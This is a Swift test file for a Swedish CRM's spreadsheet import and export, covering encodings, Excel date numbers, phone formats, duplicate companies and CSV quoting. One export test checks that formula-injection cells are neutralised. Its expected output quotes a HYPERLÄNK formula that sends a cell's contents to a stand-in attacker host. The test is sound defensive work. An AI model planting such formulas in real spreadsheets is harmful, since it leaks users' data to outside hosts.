import CRMCore
import CRMTestSupport
import Testing

@Suite struct SheetImportTests {
  private let linter = Linter(config: Config(), now: LocalDateTime(text: "2026-12-03 12:00")!)

  private func read(_ bytes: [UInt8], options: SheetImport.Options = SheetImport.Options()) throws -> SheetImport.Result {
    try SheetImport(linter: linter, options: options).read(bytes, existing: [], exists: { _ in false })
  }

  private func lines(_ result: SheetImport.Result) -> [String] {
    result.findings.map { "\($0.line) \($0.company): \($0.finding.message.text(in: .english))" }
  }

  /// Case 22: Swedish Excel's "CSV UTF-8" (BOM, `;`, CRLF).
  @Test func swedishExcelCsv() throws {
    let result = try read(Fixtures.caseBytes("22-excel-sv-semicolon-bom.csv"))
    #expect(result.findings.isEmpty)
    #expect(result.records.map(\.path) == ["records/nordlys-konsult-ab.md", "records/brygga-data-ab.md"])
    let first = try Record(path: result.records[0].path, bytes: result.records[0].bytes)
    #expect(first.document.entries.count == 12)
    #expect(first.text(.source) == "Mässa, Elmia 2024")
    #expect(first.facts.map(\.text) == ["Budget ca 1,5 MSEK"])
    let second = try Record(path: result.records[1].path, bytes: result.records[1].bytes)
    #expect(second.document.entries.count == 12)
    #expect(second.facts.map(\.text) == ["Omsättning 12,5 MSEK, 40 anställda"])
  }

  /// Case 22b: the same sheet saved as Windows-1252.
  @Test func windows1252NeedsItsName() throws {
    #expect(throws: TextEncoding.DecodingError(byte: 0xF6, position: SourcePosition(line: 1, column: 2))) {
      try read(Fixtures.caseBytes("22b-excel-sv-cp1252.csv"))
    }
    var options = SheetImport.Options()
    options.encoding = .windows1252
    let converted = try read(Fixtures.caseBytes("22b-excel-sv-cp1252.csv"), options: options)
    let original = try read(Fixtures.caseBytes("22-excel-sv-semicolon-bom.csv"))
    #expect(converted.records.map(\.bytes) == original.records.map(\.bytes))
    #expect(!String(decoding: converted.records[0].bytes, as: UTF8.self).contains("Ã"))
  }

  /// Case 25: dates as Excel sends them.
  @Test func excelDates() throws {
    let result = try read(Fixtures.caseBytes("25-date-serial.csv"))
    #expect(lines(result) == [
      "3 Brygga Data AB: inmatad \"45352\" is not a date in the form YYYY-MM-DD; it looks like Excel's date number for 2024-03-01",
      "4 Fjällvind Energi AB: inmatad \"2024-03-01 00:00\" had a time of day, which was dropped: 2024-03-01",
      "5 Kod#Norr AB: inmatad \"1/3/2024\" is not in the form YYYY-MM-DD, and day and month can be mixed up",
      "6 Åkerby Bygg AB: inmatad \"2024-02-30\" is not a real date",
      "7 Sjöbris Logistik AB: inmatad is empty",
    ])
    #expect(result.hasErrors)
    var options = SheetImport.Options()
    options.convertExcelDates = true
    let converted = try read(Fixtures.caseBytes("25-date-serial.csv"), options: options)
    let brygga = try #require(converted.records.first { $0.path == "records/brygga-data-ab.md" })
    #expect(try Record(path: brygga.path, bytes: brygga.bytes).text(.entered) == "2024-03-01")
  }

  /// Case 26: the phone numbers the team and Excel write, and what import stores.
  @Test func phoneVectors() throws {
    let text = String(decoding: Fixtures.caseBytes("26-phone-formats.csv"), as: UTF8.self)
    for (index, line) in text.physicalLines.dropFirst().filter({ !$0.isEmpty }).enumerated() {
      let cells = line.components(separatedBy: ";")
      let (input, expected) = (cells[0], cells[1])
      let row = "företag;kontaktperson;titel;telefon;mejl;inmatad;hittades_av;källa;kontaktförsök\n"
        + "Bolag \(index) AB;Anna Berg;VD;\(input);anna\(index)@bolag.example;2024-03-01;Emma L;LinkedIn;0\n"
      let result = try read(Array(row.utf8))
      let record = try Record(path: result.records[0].path, bytes: result.records[0].bytes)
      if expected == "FEL" {
        #expect(result.hasErrors, "\(input)")
        let message = result.findings.first { $0.finding.rule == .phoneFormat || $0.finding.rule == .emptyValue }
        #expect(message.map { $0.finding.message.text(in: .english).contains("\"\(input)\"") || input.isEmpty } == true, "\(input)")
      } else {
        #expect(record.text(.phone) == expected, "\(input)")
        #expect(!result.hasErrors, "\(input): \(lines(result))")
      }
    }
  }

  @Test func anUnknownColumnStopsTheImport() throws {
    let result = try read(Array("företag;telfon\nA AB;070-174 06 05\n".utf8))
    #expect(lines(result).first == "1 : the column \"telfon\" matches no field")
    #expect(result.hasErrors)
  }

  @Test func theSameCompanyTwiceInOneFile() throws {
    let header = "företag;kontaktperson;titel;telefon;mejl;inmatad;hittades_av;källa;kontaktförsök\n"
    let rows = "Nordlys AB;Karin Ek;VD;070-174 06 05;k@n.example;2024-03-01;Emma L;LinkedIn;0\n"
      + "NORDLYS AKTIEBOLAG;Per Ek;VD;070-174 06 06;p@n.example;2024-03-01;Emma L;LinkedIn;0\n"
    let result = try read(Array((header + rows).utf8))
    #expect(lines(result).contains("3 NORDLYS AKTIEBOLAG: the same company as on line 2 of the file"))
  }
}

@Suite struct SheetExportTests {
  /// Case 24: cells that would run as formulas are neutralised, and read back as they were.
  @Test func formulasAreNeutralisedAndRoundTrip() throws {
    let record = try Record(path: "records/raknestickan-ab.md", bytes: Fixtures.caseBytes("24-formula-injection.md"))
    let csv = SheetExport.csv([record])
    #expect(csv.starts(with: [0xEF, 0xBB, 0xBF]))
    let text = String(decoding: csv.dropFirst(3), as: UTF8.self)
    #expect(!text.hasPrefix("sep="))
    #expect(text.contains(";'+46 70 174 06 22;"))
    #expect(text.contains("\"'=HYPERLÄNK(\"\"http://angripare.example/?d=\"\"&B2;\"\"Öppna offert\"\")\""))
    #expect(text.contains("\"'=1+1\n@SUMMA(1+1)\n-10 % rabatt på första ordern\n+2 veckors leveranstid\""))
    #expect(text.hasSuffix("\r\n"))

    let linter = Linter(config: Config(), now: LocalDateTime(text: "2026-12-03 12:00")!)
    let back = try SheetImport(linter: linter, options: SheetImport.Options()).read(csv, existing: [], exists: { _ in false })
    #expect(back.findings.isEmpty)
    let again = try Record(path: back.records[0].path, bytes: back.records[0].bytes)
    for field in Field.allCases {
      #expect(again.text(field) == record.text(field), "\(field.key)")
    }
    #expect(again.facts.map(\.text) == record.facts.map(\.text))
    #expect(again.notes.map(\.heading) == record.notes.map(\.heading))
  }

  @Test func cellsWithSeparatorsQuotesAndLineEndsAreQuoted() {
    #expect(CSV.line(["a;b", "say \"hi\"", "two\nlines", "plain"], separator: ";")
      == "\"a;b\";\"say \"\"hi\"\"\";\"two\nlines\";plain")
  }
}

@Suite struct SheetRoundTripTests {
  /// Case 03: the `---` lines and pasted text of the body survive an export and a re-import.
  @Test func bodyWithRulesSurvivesExportAndImport() throws {
    let bytes = Fixtures.caseBytes("03-hr-in-body.md")
    let record = try Record(path: "records/brygga-data-ab.md", bytes: bytes)
    let linter = Linter(config: Config(), now: LocalDateTime(text: "2026-12-03 12:00")!)
    let back = try SheetImport(linter: linter, options: SheetImport.Options())
      .read(SheetExport.csv([record]), existing: [], exists: { _ in false })
    #expect(back.findings.isEmpty)
    #expect(back.records.map(\.path) == ["records/brygga-data-ab.md"])
    #expect(back.records.first?.bytes == bytes)
  }
}
